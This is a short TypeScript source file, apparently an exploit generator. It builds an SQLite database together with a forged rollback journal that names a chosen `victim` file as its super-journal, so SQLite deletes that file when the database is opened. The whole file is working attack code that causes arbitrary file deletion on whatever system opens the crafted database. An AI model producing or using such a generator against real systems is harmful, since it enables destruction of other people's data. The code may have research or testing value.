/** Makes a database with a journal beside it, which SQLite rolls back whenever the database is opened. */

const pageSize = 4096;
const sectorSize = 512;
const magic = Buffer.from('d9d505f920a163d7', 'hex');
/** The number of the page that SQLite never uses. In a journal it marks the name of the larger journal. */
const lockPage = (1 << 30) / pageSize + 1;

/**
 * Returns the bytes of the database and of its journal. The journal says that its transaction is part of a larger one,
 * whose journal is the file `victim`. SQLite deletes `victim` when no journal refers to it any more.
 */
export function hotJournal(victim: string): { readonly database: Buffer; readonly journal: Buffer } {
  const database = Buffer.alloc(pageSize);
  database.write('SQLite format 3\0', 'latin1');
  database.writeUInt16BE(pageSize, 16);
  Buffer.from([1, 1, 0, 64, 32, 32]).copy(database, 18);
  database.writeUInt32BE(1, 28);
  database.writeUInt32BE(4, 44);
  // The schema table, empty.
  Buffer.from([13, 0, 0, 0, 0, pageSize >> 8, pageSize & 255, 0]).copy(database, 100);

  const header = Buffer.alloc(sectorSize);
  magic.copy(header);
  for (const [at, value] of [0, 1, 1, sectorSize, pageSize].entries()) header.writeUInt32BE(value, 8 + 4 * at);
  const name = Buffer.from(victim);
  const number = (value: number): Buffer => {
    const bytes = Buffer.alloc(4);
    bytes.writeUInt32BE(value >>> 0);
    return bytes;
  };
  const sum = name.reduce((total, byte) => total + ((byte << 24) >> 24), 0);
  const parts = [number(lockPage), name, number(name.length), number(sum), magic];
  return { database, journal: Buffer.concat([header, ...parts]) };
}
